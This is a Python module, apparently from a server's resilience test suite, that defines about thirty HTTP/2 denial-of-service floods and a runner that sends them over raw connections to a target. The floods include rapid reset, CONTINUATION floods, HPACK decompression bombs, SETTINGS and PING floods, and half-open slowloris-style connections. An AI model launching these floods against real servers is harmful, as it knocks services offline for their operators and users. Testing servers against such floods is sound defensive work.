"""Floods of HTTP/2: what a caller without a key can send in large numbers, or leave unfinished."""

from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from threading import Thread

from support.conformance import complete_request, opened, watching
from support.http2 import (
    ACK,
    END_HEADERS,
    GREETING,
    PREFACE,
    Kind,
    RawConnection,
    Setting,
    frame,
    header_block,
    hpack_integer,
    literals,
    reset,
    settings,
    window_update,
)

MULTIPLEX = header_block("/doherty.v1.GenerationService/MultiplexGenerate")
FIELD = literals(("x-a", "b"))
LARGE_ENTRY = b"\x40" + hpack_integer(1, 7) + b"a" + hpack_integer(4000, 7) + b"b" * 4000
"""A field of 4 kB that is added to the dynamic table."""
IN_A_CHUNK = 100
WINDOW = (1 << 31) - 1
SEND_SECONDS = 2.0
"""If the server reads nothing for this time, in seconds, the attacker stops sending."""

Frames = Callable[[int], Iterator[bytes]]
"""Yields the data for one connection in chunks; the argument is the number of units."""


@dataclass(frozen=True)
class Flood:
    """An attack: the data that is sent again and again on new connections."""

    frames: Frames
    units: int
    """The number of units per connection in the benchmark; the tests send fewer."""
    greeting: bytes = GREETING
    reads: bool = True
    """Whether the attacker reads the replies."""
    connections: int = 1
    """The number of connections that are open at the same time."""

    def run(self, target: str, held: ExitStack, share: float = 1.0) -> None:
        """Attacks once with a fraction (`share`) of the units. `held` keeps the connections."""
        for _ in range(max(1, round(self.connections * share))):
            connection = RawConnection(target)
            held.callback(connection.close)
            connection.limit(SEND_SECONDS)
            if self.reads:
                Thread(target=_read, args=(connection,), daemon=True).start()
            with suppress(OSError):  # the server may close the connection, or stop reading
                connection.send(self.greeting)
                for chunk in self.frames(max(1, round(self.units * share))):
                    connection.send(chunk)


def _read(connection: RawConnection) -> None:
    """Reads everything, so that the server can always send."""
    with suppress(OSError, ValueError):
        connection.until_closed()


def _repeated(make: Callable[[int], bytes], before: bytes = b"") -> Frames:
    """Returns a flood that repeats the same frames for each odd stream number."""

    def frames(units: int) -> Iterator[bytes]:
        yield before
        for first in range(0, units, IN_A_CHUNK):
            yield b"".join(make(2 * number + 1) for number in range(first, min(first + IN_A_CHUNK, units)))

    return frames


def _bomb(stream: int) -> bytes:
    """Returns a header block of 12 kB that would be 48 MB after decompression."""
    block = header_block("/a") + LARGE_ENTRY + b"\xbe" * 12_000
    return frame(Kind.HEADERS, END_HEADERS | 1, stream, block)


def _long_list(stream: int) -> bytes:
    """Returns a header list that fits into a frame, but is larger than the server accepts."""
    return frame(Kind.HEADERS, END_HEADERS | 1, stream, header_block("/a") + FIELD * 2000)


BEGUN = frame(Kind.HEADERS, 0, 1, header_block("/a"))
ONE_BYTE = frame(Kind.DATA, 0, 1, b"\0")
NO_WINDOW = PREFACE + settings((Setting.INITIAL_WINDOW_SIZE, 0)) + frame(Kind.SETTINGS, ACK)
GOAWAY = frame(Kind.GOAWAY, 0, 0, bytes(8))

FLOODS: dict[str, Flood] = {
    "rapid reset": Flood(_repeated(lambda stream: opened(stream) + reset(stream)), 20_000),
    "reset by a window of 0": Flood(_repeated(lambda stream: watching(stream) + window_update(stream, 0)), 20_000),
    "reset by a window that overflows": Flood(
        _repeated(lambda stream: watching(stream) + window_update(stream, WINDOW)), 20_000
    ),
    "reset by DATA after the end": Flood(
        _repeated(lambda stream: watching(stream) + frame(Kind.DATA, 0, stream, b"a")), 20_000
    ),
    "reset by HEADERS after the end": Flood(_repeated(lambda stream: watching(stream) + opened(stream)), 20_000),
    "reset by a malformed request": Flood(_repeated(lambda stream: opened(stream, literals(("X", "a")))), 20_000),
    "DATA after RST_STREAM": Flood(
        _repeated(lambda _: frame(Kind.DATA, 0, 1, bytes(100)), opened(1) + reset(1)), 50_000
    ),
    "CONTINUATION without an end": Flood(_repeated(lambda _: frame(Kind.CONTINUATION, 0, 1, FIELD), BEGUN), 50_000),
    "empty CONTINUATION": Flood(_repeated(lambda _: frame(Kind.CONTINUATION, 0, 1), BEGUN), 50_000),
    "large CONTINUATION": Flood(_repeated(lambda _: frame(Kind.CONTINUATION, 0, 1, FIELD * 2000), BEGUN), 1_000),
    "SETTINGS": Flood(_repeated(lambda _: settings((Setting.ENABLE_PUSH, 0))), 50_000),
    "SETTINGS, unread": Flood(_repeated(lambda _: settings((Setting.ENABLE_PUSH, 0))), 50_000, reads=False),
    "SETTINGS of 16 kB": Flood(_repeated(lambda _: settings(*[(Setting.INITIAL_WINDOW_SIZE, 9)] * 2730)), 1_000),
    "a window that changes, 100 streams": Flood(
        _repeated(
            lambda stream: settings((Setting.INITIAL_WINDOW_SIZE, stream)),
            b"".join(opened(stream, MULTIPLEX) for stream in range(1, 201, 2)),
        ),
        20_000,
    ),
    "PING": Flood(_repeated(lambda _: frame(Kind.PING, payload=bytes(8))), 50_000),
    "PING, unread": Flood(_repeated(lambda _: frame(Kind.PING, payload=bytes(8))), 50_000, reads=False),
    "PRIORITY": Flood(_repeated(lambda stream: frame(Kind.PRIORITY, 0, stream, bytes(4) + b"\1")), 50_000),
    "unknown frames": Flood(_repeated(lambda _: frame(0xBE, 0, 0, b"a")), 50_000),
    "empty DATA": Flood(_repeated(lambda _: frame(Kind.DATA, 0, 1), opened(1, MULTIPLEX)), 50_000),
    "DATA of one byte": Flood(_repeated(lambda _: ONE_BYTE, opened(1, MULTIPLEX)), 50_000),
    "empty messages": Flood(_repeated(lambda _: frame(Kind.DATA, 0, 1, bytes(5) * 100), opened(1, MULTIPLEX)), 5_000),
    "WINDOW_UPDATE of 1": Flood(_repeated(lambda _: window_update(0, 1)), 50_000),
    "answers by WINDOW_UPDATE of 1": Flood(
        _repeated(lambda _: window_update(1, 1), b"".join(map(complete_request, range(1, 201, 2)))),
        20_000,
        greeting=NO_WINDOW,
    ),
    "HPACK bombs": Flood(_repeated(_bomb), 200),
    "header lists that are too large": Flood(_repeated(_long_list), 500),
    "a table that is emptied": Flood(
        _repeated(
            lambda stream: opened(stream, b"\x20\x3f\xe1\x1f" + header_block("/a") + LARGE_ENTRY) + reset(stream)
        ),
        2_000,
    ),
    "GOAWAY": Flood(_repeated(lambda _: GOAWAY, opened(1, MULTIPLEX)), 50_000),
    "requests after GOAWAY": Flood(_repeated(lambda stream: GOAWAY + complete_request(stream)), 5_000),
    "unread answers": Flood(_repeated(complete_request), 1_000, greeting=NO_WINDOW, connections=4),
    "unread answers on a full socket": Flood(_repeated(complete_request), 20_000, reads=False),
    "streams that are left open": Flood(_repeated(lambda stream: opened(stream, MULTIPLEX)), 1_000, connections=8),
    "half a preface": Flood(_repeated(lambda _: b""), 1, greeting=PREFACE[:10], connections=200),
    "silence": Flood(_repeated(lambda _: b""), 1, greeting=b"", connections=200),
    "half a frame": Flood(_repeated(lambda _: b"\0\0\x08\6\0"), 1, connections=200),
    "half a header block": Flood(_repeated(lambda _: b"", BEGUN), 1, connections=200),
}
